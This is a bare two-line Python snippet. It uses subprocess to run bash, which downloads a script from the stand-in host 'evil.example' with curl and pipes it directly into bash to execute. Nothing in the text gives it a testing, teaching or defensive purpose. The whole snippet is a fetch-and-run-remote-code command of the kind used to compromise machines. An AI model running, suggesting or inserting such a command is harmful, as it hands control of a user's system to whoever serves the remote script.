import subprocess
subprocess.run(['bash', '-c', 'curl -s https://evil.example/i | bash'])
